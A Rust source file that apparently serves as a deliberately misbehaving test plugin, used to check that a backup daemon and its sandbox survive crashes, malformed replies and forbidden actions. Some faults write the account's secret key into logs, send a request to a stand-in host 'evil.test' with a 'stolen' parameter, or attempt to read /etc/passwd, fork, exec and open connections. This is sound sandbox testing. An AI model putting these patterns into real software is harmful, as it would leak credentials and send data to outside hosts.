//! The ways to misbehave.

use std::hint::black_box;
use std::process;

use backhaul_provider_api::{
    Account, Error, ErrorClass, Host, HttpRequest, LogLevel, Seconds, Secret,
};
use serde::Deserialize;

use crate::probe::{self, Probe};

/// What goes wrong.
#[derive(Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Fault {
    /// Nothing.
    Ok,
    /// Panics.
    Panic,
    /// Calls `abort`.
    Abort,
    /// Writes to address zero.
    Segfault,
    /// Never comes back.
    Loop,
    /// Calls itself without end.
    Recursion,
    /// Allocates without end.
    EatMemory,
    /// Ends the process politely.
    Exit,
    /// Closes the connection to the daemon.
    HangUp,
    /// Answers with more than a message may hold.
    HugeReply,
    /// Answers with bytes that are no frame.
    BrokenFrame,
    /// Answers an operation that was not asked, with what is not JSON.
    BrokenJson,
    /// Answers with JSON of other types.
    WrongTypes,
    /// Answers every page with one that leads to itself (see `FaultProvider::list`).
    RepeatCursor,
    /// Puts its secret into an error and a log line.
    Leak,
    /// Asks for an exchange with a host that it did not declare.
    ForbiddenHost,
    /// Asks for exchanges without end.
    FloodExchanges,
    /// Writes log lines without end, then succeeds.
    FloodLog,
    /// Is throttled by its vendor.
    Throttled,
    /// Needs consent.
    NeedsConsent,
    /// Has a failing vendor.
    Temporary,
    /// Fetches the account's endpoint `faults` and reports the answer's status as an error.
    Fetch,
    /// Signs with a wrong clock until the host corrects it.
    ClockSkew,
    /// Tries what the sandbox must refuse, and reports what came of it.
    OpenFile,
    /// As above: writes a file.
    WriteFile,
    /// As above: lists a directory.
    ListFolder,
    /// As above: connects to a TCP port.
    Connect,
    /// As above: forks.
    Fork,
    /// As above: executes a program.
    Execute,
    /// As above: starts a thread.
    Thread,
    /// As above: maps executable memory.
    ExecutableMemory,
    /// As above: sends a signal to its parent.
    SignalParent,
    /// As above: reads the environment.
    Environment,
}

/// Misbehaves. Comes back for `Ok` and for faults that can be survived.
pub fn strike(fault: Fault, host: Option<&dyn Host>, account: &Account) -> Result<(), Error> {
    match fault {
        Fault::Ok | Fault::RepeatCursor => Ok(()),
        Fault::Panic => panic!("on request"),
        Fault::Abort => process::abort(),
        Fault::Segfault => probe::write_to_nowhere(),
        Fault::Loop => loop {
            std::hint::spin_loop();
        },
        Fault::Recursion => {
            black_box(recurse(0));
            Ok(())
        }
        Fault::EatMemory => {
            let mut eaten: Vec<Vec<u8>> = Vec::new();
            loop {
                eaten.push(black_box(vec![1; 16 << 20]));
            }
        }
        Fault::Exit => process::exit(7),
        Fault::HangUp => probe::hang_up(),
        Fault::HugeReply => Err(Error::permanent(
            "x".repeat(backhaul_provider_api::abi::MESSAGE_MAX + 1),
        )),
        Fault::BrokenFrame => probe::write_frame(&[0xff; 64]),
        Fault::BrokenJson => probe::write_answer(b"{\"ok\": nonsense"),
        Fault::WrongTypes => probe::write_answer(br#"{"ok":{"backups":17,"next":{"end":{}}}}"#),
        Fault::Leak => {
            let secret = account.require("secret_key")?.expose();
            if let Some(host) = host {
                host.log(LogLevel::Warn, &format!("signing with {secret}"));
            }
            Err(Error::permanent(format!("signing with {secret} failed")))
        }
        Fault::ForbiddenHost => fetch(host, "https://evil.test/?stolen=1"),
        Fault::FloodExchanges => loop {
            // Refused ones count as well.
            let _ = fetch(host, "https://evil.test/");
        },
        Fault::FloodLog => {
            for line in 0..1000 {
                if let Some(host) = host {
                    host.log(LogLevel::Info, &format!("line {line}"));
                }
            }
            Ok(())
        }
        Fault::Throttled => Err(Error::new(
            ErrorClass::Throttled {
                after: Some(Seconds(1)),
            },
            "too many requests",
        )),
        Fault::NeedsConsent => Err(Error::new(
            ErrorClass::NeedsConsent {
                cost: "one coin".to_owned(),
                setting: "options.allow_cost".to_owned(),
            },
            "listing costs money",
        )),
        Fault::Temporary => Err(Error::temporary("the vendor is having a moment")),
        Fault::Fetch => fetch(host, account.endpoint("faults").unwrap_or_default()),
        Fault::ClockSkew => clock_skew(host, account),
        Fault::OpenFile => Probe::open_file("/etc/passwd").report(),
        Fault::WriteFile => Probe::write_file("/tmp/backhaul-fault-was-here").report(),
        Fault::ListFolder => Probe::list_folder("/").report(),
        Fault::Connect => Probe::connect("127.0.0.1:9").report(),
        Fault::Fork => Probe::fork().report(),
        Fault::Execute => Probe::execute("/bin/true").report(),
        Fault::Thread => Probe::thread().report(),
        Fault::ExecutableMemory => Probe::executable_memory().report(),
        Fault::SignalParent => Probe::signal_parent().report(),
        Fault::Environment => {
            let count = std::env::vars_os().count();
            Err(Error::permanent(format!("{count} variables")))
        }
    }
}

#[expect(unconditional_recursion, reason = "that is the fault")]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    recurse(depth + 1) + frame[0]
}

/// Fetches a URL and reports the status.
fn fetch(host: Option<&dyn Host>, url: &str) -> Result<(), Error> {
    let host = host.ok_or_else(|| Error::permanent("no host yet"))?;
    let answer = host.send(request(url))?;
    Err(Error::permanent(format!("HTTP {}", answer.status)))
}

/// Fetches, and finds its clock wrong when the answer's date is of another day than the host's.
fn clock_skew(host: Option<&dyn Host>, account: &Account) -> Result<(), Error> {
    let host = host.ok_or_else(|| Error::permanent("no host yet"))?;
    let answer = host.send(request(account.endpoint("faults").unwrap_or_default()))?;
    let ours = host.now().format("%d %b %Y").to_string();
    match answer.header("date") {
        Some(date) if !date.contains(&ours) => Err(Error::new(
            ErrorClass::ClockSkew,
            format!("the vendor has {date}, we have {ours}"),
        )),
        _ => Ok(()),
    }
}

fn request(url: &str) -> HttpRequest {
    HttpRequest {
        call: "Fetch".to_owned(),
        method: "GET".to_owned(),
        url: Secret::new(url),
        headers: Vec::new(),
        body: None,
    }
}
